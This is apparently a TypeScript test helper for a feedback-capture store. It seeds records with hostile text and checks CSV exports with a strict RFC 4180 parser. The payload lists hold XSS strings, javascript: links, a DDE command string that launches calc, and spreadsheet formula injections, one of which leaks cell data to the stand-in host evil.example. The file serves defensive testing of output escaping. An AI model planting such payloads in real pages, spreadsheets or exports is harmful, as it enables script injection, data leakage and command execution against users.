import { captureInput, type CaptureInput } from '#shared/capture';
import { canonicalHash } from '../../server/canonical-json';
import type { Store, User } from '../../server/store/store';
import { sampleCaptureInput } from './helpers';

/**
 * Text that would run as script in a page, as a formula in a spreadsheet, or as a link in
 * Markdown if a report wrote it out raw. Every captured field of the hostile captures holds them.
 */
export const HOSTILE_TEXT = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '[x](javascript:alert(1))',
  '\t=1+1',
  '\r=2+2',
  '"quoted", with comma\nand a new line',
] as const;

export const HOSTILE_URLS = [
  'javascript:alert(1)',
  'https://evil.example/<script>alert(1)</script>?x="><img src=x onerror=alert(1)>',
  'https://evil.example/=HYPERLINK("x")',
] as const;

/** A reporter whose very name is a formula. */
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example","name")';

/** Stores a capture directly (faster than HTTP, and any reporter). */
export async function storeCapture(store: Store, reporter: User, overrides: Partial<CaptureInput> = {}): Promise<string> {
  const input = captureInput.parse(sampleCaptureInput(overrides));
  const result = await store.createCapture({
    input,
    inputHash: canonicalHash(input),
    reporter: { id: reporter.id, name: reporter.name },
    receivedAt: input.createdAt,
  });
  if (result.status !== 'created') throw new Error(`expected created, got ${result.status}`);
  return result.capture.id;
}

/** One capture per hostile text, the text in every field a person or a page can fill. */
export async function storeHostileCaptures(store: Store, reporter: User, createdAt: string): Promise<string[]> {
  const ids: string[] = [];
  for (const [index, text] of HOSTILE_TEXT.entries()) {
    const url = HOSTILE_URLS[index % HOSTILE_URLS.length] ?? 'https://example.com/';
    const box = { x: 0, y: 0, width: 10, height: 10 };
    ids.push(
      await storeCapture(store, reporter, {
        createdAt,
        kind: 'friction',
        annotations: [],
        comment: text,
        quote: text,
        page: { url, title: text },
        tags: [text.slice(0, 40), 'hostile'],
        customer: text.trim() === '' ? 'blank' : text,
        severity: 'high',
        flow: { name: text.trim() || 'flow', step: text.trim() || 'step' },
        element: { selector: text, xpath: '/html/body', tagName: 'div', text, name: text, viewportBox: box, documentBox: box },
      }),
    );
  }
  return ids;
}

/** RFC 4180 parsing, strict enough to catch a writer that gets quoting wrong. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let index = 0;
  while (index < text.length) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
        continue;
      }
      if (char === '"') {
        quoted = false;
        index += 1;
        const next = text[index];
        if (next !== ',' && next !== '\r' && next !== undefined) throw new Error(`text after a closing quote at ${index}`);
        continue;
      }
      field += char;
      index += 1;
      continue;
    }
    if (char === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${index}`);
      quoted = true;
      index += 1;
    } else if (char === ',') {
      record.push(field);
      field = '';
      index += 1;
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else if (char === '\r' || char === '\n') {
      throw new Error(`a bare line break in an unquoted field at ${index}`);
    } else {
      field += char;
      index += 1;
    }
  }
  if (quoted) throw new Error('the text ends inside a quoted field');
  if (field !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}
